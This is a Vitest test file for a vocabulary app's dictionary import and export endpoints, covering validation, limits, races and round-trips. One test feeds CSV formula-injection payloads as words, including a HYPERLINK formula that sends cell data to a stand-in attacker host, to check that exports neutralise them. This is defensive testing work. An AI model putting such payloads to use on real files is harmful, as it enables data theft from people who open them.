import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  exampleSchema,
  accountExportSchema,
  definitionSchema,
  dictionaryExportSchema,
  termKey,
  normalizeSpaces,
  parseDelimited,
  parseImport,
  previewImport,
  termSchema,
  type EndpointName,
  type ImportResult,
  type WordInput,
} from '@wordhoard/shared';
import { callAsNewClient, type CallInput } from '../../../test/api-client';
import { createTestApp, testDriver, type TestApp } from '../../../test/harness';
import { createUser } from '../../../test/fixtures';
import { stateFingerprint } from '../../../test/state';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => {
  await t.close();
});

type Cookie = { cookie: string };
/** Many imports in one file: each call from its own client (callAsNewClient). */
const call = <N extends EndpointName>(user: Cookie, name: N, input?: CallInput<N>) =>
  callAsNewClient(t.app, user, name, input);

const words = (n: number, prefix = 'word') =>
  Array.from({ length: n }, (_, i) => ({
    term: `${prefix} ${String(i).padStart(4, '0')}`,
    definitions: [`meaning ${i}`],
  }));

async function newDictionary(user: Cookie, imported: WordInput[] = [], name = 'Imported') {
  const response = await call(user, 'importDictionary', {
    body: {
      name,
      fromLanguage: 'uk',
      toLanguage: 'en',
      words: imported,
    },
  });
  expect(response.statusCode, response.body).toBe(201);
  return response.json<ImportResult>();
}

const allTerms = async (user: Cookie, id: string) =>
  (await call(user, 'getDictionary', { params: { id }, query: { limit: 100, sort: 'create', direction: 1 } }))
    .json()
    .words.map((word: { term: string; definitions: string[] }) => ({
      term: word.term,
      definitions: word.definitions,
    }));

describe(`import (${testDriver})`, () => {
  it('creates a dictionary with its words in file order', async () => {
    const user = await createUser(t.app);
    const result = await newDictionary(user, [
      { term: 'кіт', definitions: ['cat', 'tomcat'] },
      { term: ' м’ята ', definitions: ['mint'] },
    ]);
    expect(result).toMatchObject({
      imported: 2,
      skipped: [],
      dictionary: { name: 'Imported', fromLanguage: 'uk', toLanguage: 'en', wordsCount: 2 },
    });
    expect(await allTerms(user, result.dictionary.id)).toEqual([
      { term: 'кіт', definitions: ['cat', 'tomcat'] },
      { term: 'м’ята', definitions: ['mint'] },
    ]);
  });

  it('skips terms repeated in the file or already in the dictionary, and reports them', async () => {
    const user = await createUser(t.app);
    const { dictionary } = await newDictionary(user, [{ term: 'Sun', definitions: ['Sonne'] }]);
    const response = await call(user, 'importWords', {
      params: { id: dictionary.id },
      body: {
        words: [
          { term: 'moon', definitions: ['Mond'] },
          { term: 'SUN', definitions: ['wieder'] },
          { term: 'Moon', definitions: ['nochmal'] },
          { term: 'star', definitions: ['Stern'] },
        ],
      },
    });
    expect(response.statusCode, response.body).toBe(200);
    const result = response.json<ImportResult>();
    expect(result.imported).toBe(2);
    expect(result.dictionary.wordsCount).toBe(3);
    expect(result.skipped).toEqual(
      expect.arrayContaining([
        { term: 'Moon', reason: 'duplicateInFile', index: 2, firstIndex: 0 },
        { term: 'SUN', reason: 'alreadyInDictionary', index: 1 },
      ]),
    );
    expect(result.skipped).toHaveLength(2);
    expect((await allTerms(user, dictionary.id)).map((w: { term: string }) => w.term)).toEqual([
      'Sun',
      'moon',
      'star',
    ]);
  });

  it('re-validates every word and saves nothing when one is invalid', async () => {
    const user = await createUser(t.app);
    const { dictionary } = await newDictionary(user);
    const before = await stateFingerprint(t.database.db);
    const response = await t.app.inject({
      method: 'POST',
      url: `/api/dictionaries/${dictionary.id}/import`,
      headers: { cookie: user.cookie, 'accept-language': 'de' },
      payload: { words: [...words(3), { term: 'bad<tag>', definitions: ['a, b'] }] },
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().code).toBe('VALIDATION_ERROR');
    expect(response.json().details).toEqual(
      expect.arrayContaining([
        { path: 'body.words.3.term', message: 'Das Zeichen „<“ ist hier nicht erlaubt' },
      ]),
    );
    expect(await stateFingerprint(t.database.db)).toBe(before);
  });

  it('with skipInvalid, saves the valid words and reports every skipped one by its position', async () => {
    const guest = await createUser(t.app, 'guest');
    // A guest may have 100 words: room for two more.
    const { dictionary } = await newDictionary(guest, [
      { term: 'Sun', definitions: ['Sonne'] },
      ...words(97),
    ]);
    const response = await t.app.inject({
      method: 'POST',
      url: `/api/dictionaries/${dictionary.id}/import`,
      headers: { cookie: guest.cookie, 'accept-language': 'de' },
      payload: {
        skipInvalid: true,
        words: [
          { term: '  moon ', definitions: ['Mond'] },
          { term: 'bad<tag>', definitions: ['a', 'A'] },
          { term: 'sun', definitions: ['wieder'] },
          { term: 'star', definitions: [] },
          { term: 'MOON', definitions: ['nochmal'] },
          { term: 'sky', definitions: ['Himmel'] },
          { term: 'cloud', definitions: ['Wolke'] },
        ],
      },
    });
    expect(response.statusCode, response.body).toBe(200);
    const result = response.json<ImportResult>();
    expect(result.imported).toBe(2);
    expect(result.dictionary.wordsCount).toBe(100);
    expect(result.skipped).toEqual([
      {
        term: 'bad<tag>',
        reason: 'invalid',
        index: 1,
        problems: [
          { field: 'term', message: 'validation.forbiddenCharacter|{"character":"<"}' },
          { field: 'definitions', message: expect.stringMatching(/^validation\.duplicateDefinition/) },
        ],
      },
      { term: 'sun', reason: 'alreadyInDictionary', index: 2 },
      {
        term: 'star',
        reason: 'invalid',
        index: 3,
        problems: [{ field: 'definitions', message: 'validation.definitionsRequired' }],
      },
      { term: 'MOON', reason: 'duplicateInFile', index: 4, firstIndex: 0 },
      { term: 'cloud', reason: 'overWordLimit', index: 6 },
    ]);
    const terms = (await allTerms(guest, dictionary.id)).map((w: { term: string }) => w.term);
    expect(terms).toHaveLength(100);
    expect(terms).toEqual(expect.arrayContaining(['Sun', 'moon', 'sky']));
    expect(terms).not.toContain('cloud');
  });

  it('with skipInvalid, creates the dictionary with the valid words only', async () => {
    const user = await createUser(t.app);
    const response = await call(user, 'importDictionary', {
      body: {
        name: 'Mixed',
        fromLanguage: 'en',
        toLanguage: 'de',
        skipInvalid: true,
        words: [
          { term: 'cat', definitions: ['Katze'] },
          { term: '', definitions: ['leer'] },
        ],
      },
    });
    expect(response.statusCode, response.body).toBe(201);
    const result = response.json<ImportResult>();
    expect(result).toMatchObject({ imported: 1, dictionary: { name: 'Mixed', wordsCount: 1 } });
    expect(result.skipped).toMatchObject([{ term: '', reason: 'invalid', index: 1 }]);
    expect(await allTerms(user, result.dictionary.id)).toEqual([{ term: 'cat', definitions: ['Katze'] }]);
  });

  it('refuses an import past the word limit as a whole', async () => {
    const guest = await createUser(t.app, 'guest');
    const { dictionary } = await newDictionary(guest, words(95));
    const before = await stateFingerprint(t.database.db);
    const over = await call(guest, 'importWords', {
      params: { id: dictionary.id },
      body: {
        words: words(6, 'extra'),
      },
    });
    expect(over.statusCode).toBe(403);
    expect(over.json().code).toBe('MAX_WORDS');
    expect(await stateFingerprint(t.database.db)).toBe(before);
    // Duplicates do not count against the limit: 5 new words and 95 repeats fit.
    const fits = await call(guest, 'importWords', {
      params: { id: dictionary.id },
      body: {
        words: [...words(95), ...words(5, 'extra')],
      },
    });
    expect(fits.statusCode, fits.body).toBe(200);
    expect(fits.json()).toMatchObject({ imported: 5, dictionary: { wordsCount: 100 } });
  });

  it('creates no dictionary when its words are over the limit, or at the dictionary limit', async () => {
    const guest = await createUser(t.app, 'guest');
    const before = await stateFingerprint(t.database.db);
    const tooMany = await call(guest, 'importDictionary', {
      body: {
        name: 'Big',
        fromLanguage: 'en',
        toLanguage: 'de',
        words: words(101),
      },
    });
    expect(tooMany.statusCode).toBe(403);
    expect(tooMany.json().code).toBe('MAX_WORDS');
    expect(await stateFingerprint(t.database.db)).toBe(before);

    await newDictionary(guest, words(1));
    const second = await call(guest, 'importDictionary', {
      body: {
        name: 'Second',
        fromLanguage: 'en',
        toLanguage: 'de',
        words: words(1),
      },
    });
    expect(second.statusCode).toBe(403);
    expect(second.json()).toMatchObject({ code: 'MAX_DICTIONARIES' });
  });

  it('lets exactly the word limit through when 20 imports race', async () => {
    const guest = await createUser(t.app, 'guest');
    const { dictionary } = await newDictionary(guest);
    const responses = await Promise.all(
      Array.from({ length: 20 }, (_, i) =>
        call(guest, 'importWords', {
          params: { id: dictionary.id },
          body: { words: words(10, `batch${i}`) },
        }),
      ),
    );
    expect(responses.filter((r) => r.statusCode === 200)).toHaveLength(10);
    expect(responses.filter((r) => r.statusCode === 403)).toHaveLength(10);
    const info = (
      await call(guest, 'getDictionary', { params: { id: dictionary.id }, query: { limit: 1 } })
    ).json();
    expect(info).toMatchObject({ wordsCount: 100, total: 100 });
  });

  it('lets exactly the dictionary limit through when 20 new-dictionary imports race', async () => {
    const premium = await createUser(t.app, 'premium');
    const responses = await Promise.all(
      Array.from({ length: 20 }, (_, i) =>
        call(premium, 'importDictionary', {
          body: {
            name: `Race ${i}`,
            fromLanguage: 'en',
            toLanguage: 'fr',
            words: words(3),
          },
        }),
      ),
    );
    expect(responses.filter((r) => r.statusCode === 201)).toHaveLength(10);
    expect((await call(premium, 'listDictionaries', { query: { limit: 100 } })).json().total).toBe(10);
  });

  it('accepts a 5,000-word import above the usual 100 KB body limit', async () => {
    const developer = await createUser(t.app, 'developer');
    const big = words(5000, 'довге слово').map((word) => ({
      ...word,
      definitions: ['перше значення', 'друге значення'],
    }));
    expect(JSON.stringify({ words: big }).length).toBeGreaterThan(100 * 1024);
    const result = await newDictionary(developer, big);
    expect(result).toMatchObject({ imported: 5000, dictionary: { wordsCount: 5000 } });
  });
});

describe(`export (${testDriver})`, () => {
  it('downloads CSV that reads back as the same words, with a good file name', async () => {
    const user = await createUser(t.app);
    const original = [
      { term: 'a, b', definitions: ['say "hi"', 'x;y'] },
      { term: 'Ελληνικά', definitions: ['Greek'] },
      { term: '日本語', definitions: ['Japanese', 'язык'] },
    ];
    const { dictionary } = await newDictionary(user, original, 'Мої слова');
    const response = await call(user, 'exportDictionary', {
      params: { id: dictionary.id },
      query: { format: 'csv' },
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="___-_____.csv"; filename*=UTF-8''${encodeURIComponent('Мої-слова.csv')}`,
    );
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.body.startsWith('\uFEFF')).toBe(true);
    const parsed = parseImport(response.body, { format: 'delimited', delimiter: ',' });
    expect(parsed.entries.map(({ term, definitions }) => ({ term, definitions }))).toEqual(original);
  });

  it('writes no cell a spreadsheet would run as a formula, and imports back to the same words', async () => {
    const user = await createUser(t.app);
    const hostile = [
      { term: '=HYPERLINK("http://evil.example/?"&A1,"click")', definitions: ['+1', '-x'] },
      { term: '@SUM(1)', definitions: ["'=x", 'a;=1+1'] },
      { term: '-ing', definitions: ['@home', "'tis"] },
      // Leading tabs and CRs are trimmed when a word is saved (SPEC §5 spaces rule).
      { term: '\t+tab', definitions: ['\r-cr'] },
    ];
    const stored = hostile.map(({ term, definitions }) => ({
      term: normalizeSpaces(term),
      definitions: definitions.map(normalizeSpaces),
    }));
    const { dictionary } = await newDictionary(user, hostile, 'Formulas');
    expect(await allTerms(user, dictionary.id)).toEqual(stored);

    const csv = await call(user, 'exportDictionary', {
      params: { id: dictionary.id },
      query: { format: 'csv' },
    });
    expect(csv.statusCode).toBe(200);
    // Wherever a spreadsheet could start a cell (also with `;` or tab as its separator).
    const cells = parseDelimited(csv.body, ',').flatMap((record) => record.cells);
    expect(cells).toHaveLength(11);
    for (const cell of cells) expect(cell).not.toMatch(/(?:^|[,;\t\r\n])[=+\-@\t\r]/);
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(cells).toContain("''=x");
    expect(cells).toContain("'tis");

    const preview = previewImport(parseImport(csv.body, { format: 'delimited', delimiter: ',' }).entries, {
      existingTerms: [],
      existingCount: 0,
      wordLimit: 5000,
    });
    expect(preview.blocked).toBe(false);
    expect(preview.words).toEqual(stored);
    const again = await newDictionary(user, preview.words, 'Formulas again');
    expect(await allTerms(user, again.dictionary.id)).toEqual(stored);
  });

  it('downloads JSON with every field', async () => {
    const user = await createUser(t.app);
    const { dictionary } = await newDictionary(user, words(2), 'Deutsch A1');
    const response = await call(user, 'exportDictionary', {
      params: { id: dictionary.id },
      query: { format: 'json' },
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(response.headers['content-disposition']).toContain('filename="Deutsch-A1.json"');
    const body = dictionaryExportSchema.parse(response.json());
    expect(body.dictionary).toMatchObject({ id: dictionary.id, name: 'Deutsch A1', wordsCount: 2 });
    expect(body.dictionary.words.map((word) => word.term)).toEqual(['word 0000', 'word 0001']);
    expect(Object.keys(body.dictionary.words[0]!).sort()).toEqual([
      'audio',
      'createdAt',
      'definitions',
      'examples',
      'id',
      'picture',
      'suspended',
      'term',
      'updatedAt',
      'version',
    ]);
    expect(body.dictionary.examDate).toBeNull();
  });

  it('round-trips random unicode words: import → CSV export → import → JSON export', async () => {
    const user = await createUser(t.app, 'developer');
    const letter = fc
      .integer({ min: 0x41, max: 0x2ffff })
      .map((code) => String.fromCodePoint(code))
      .filter((char) => /^[\p{L}\p{N}]$/u.test(char));
    const piece = fc.oneof(
      { weight: 5, arbitrary: letter },
      fc.constantFrom(' ', '"', "'", ';', '-', '(', '.'),
    );
    const text = (schema: typeof termSchema, extra: string) =>
      fc
        .array(fc.oneof(piece, fc.constant(extra)), { minLength: 1, maxLength: 20 })
        .map((chars) => chars.join(''))
        .filter((value) => value === normalizeSpaces(value) && schema.safeParse(value).success);
    const randomWords = fc.uniqueArray(
      fc.record(
        {
          term: text(termSchema, ','),
          definitions: fc.uniqueArray(text(definitionSchema, ';'), {
            minLength: 1,
            maxLength: 4,
            selector: termKey,
          }),
          // Example sentences, commas and all; a word without any has no `examples` key.
          examples: fc.uniqueArray(text(exampleSchema, ','), {
            minLength: 1,
            maxLength: 2,
            selector: termKey,
          }),
        },
        { requiredKeys: ['term', 'definitions'] },
      ),
      { minLength: 1, maxLength: 12, selector: (word) => termKey(word.term) },
    );

    await fc.assert(
      fc.asyncProperty(randomWords, async (original) => {
        const first = await newDictionary(user, original, 'First');
        const csv = await call(user, 'exportDictionary', {
          params: { id: first.dictionary.id },
          query: { format: 'csv' },
        });
        const preview = previewImport(
          parseImport(csv.body, { format: 'delimited', delimiter: ',' }).entries,
          {
            existingTerms: [],
            existingCount: 0,
            wordLimit: 5000,
          },
        );
        expect(preview.words).toEqual(original);
        const second = await newDictionary(user, preview.words, 'Second');
        const json = dictionaryExportSchema.parse(
          (await call(user, 'exportDictionary', { params: { id: second.dictionary.id } })).json(),
        );
        expect(
          json.dictionary.words.map(({ term, definitions, examples }) => ({
            term,
            definitions,
            ...(examples.length > 0 ? { examples } : {}),
          })),
        ).toEqual(original);
        await call(user, 'deleteDictionary', { params: { id: first.dictionary.id } });
        await call(user, 'deleteDictionary', { params: { id: second.dictionary.id } });
      }),
      { numRuns: 15 },
    );
  });

  it('exports everything a user owns, without secrets', async () => {
    const user = await createUser(t.app);
    const { dictionary } = await newDictionary(user, words(3), 'Mine');
    await newDictionary(user, [], 'Empty');
    const started = await call(user, 'createTester', {
      body: {
        dictionaryId: dictionary.id,
        swap: false,
        range: { type: 'quantity', from: 'all', count: 20, order: 'asc' },
      },
    });
    expect(started.statusCode).toBe(201);

    (await call(user, 'updateMe', { body: { desiredRetention: 0.85 } })).data();
    const response = await call(user, 'exportMe');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="wordhoard-\d{4}-\d{2}-\d{2}\.json"/,
    );
    const body = accountExportSchema.parse(response.json());
    expect(body.user).toMatchObject({ id: user.id, email: user.email, role: 'user', googleLinked: false });
    expect(body.plan.id).toBe('free');
    expect(body.dictionaries.map((d) => [d.name, d.words.length])).toEqual([
      ['Mine', 3],
      ['Empty', 0],
    ]);
    expect(body.test).toMatchObject({ dictionaryId: dictionary.id, position: 0 });
    expect(body.test?.items).toHaveLength(3);
    expect(body.testAttempts).toEqual([{ day: expect.any(String), count: 1 }]);
    // The learner's own scheduler goes with their data: the chosen retention, no fit yet.
    expect(body.scheduler).toMatchObject({ desiredRetention: 0.85, reviews: 0, fit: null });
    expect(response.body).not.toMatch(/password|token|hash|stripe|google_?subject/i);
  });

  it('answers 404 for another user’s dictionary and 401 without a session', async () => {
    const owner = await createUser(t.app);
    const stranger = await createUser(t.app);
    const { dictionary } = await newDictionary(owner, words(1));
    expect(
      (await call(stranger, 'exportDictionary', { params: { id: dictionary.id }, query: { format: 'csv' } }))
        .statusCode,
    ).toBe(404);
    expect((await t.app.inject({ method: 'GET', url: '/api/users/me/export' })).statusCode).toBe(401);
    const mine = accountExportSchema.parse((await call(stranger, 'exportMe')).json());
    expect(mine.dictionaries).toEqual([]);
  });
});
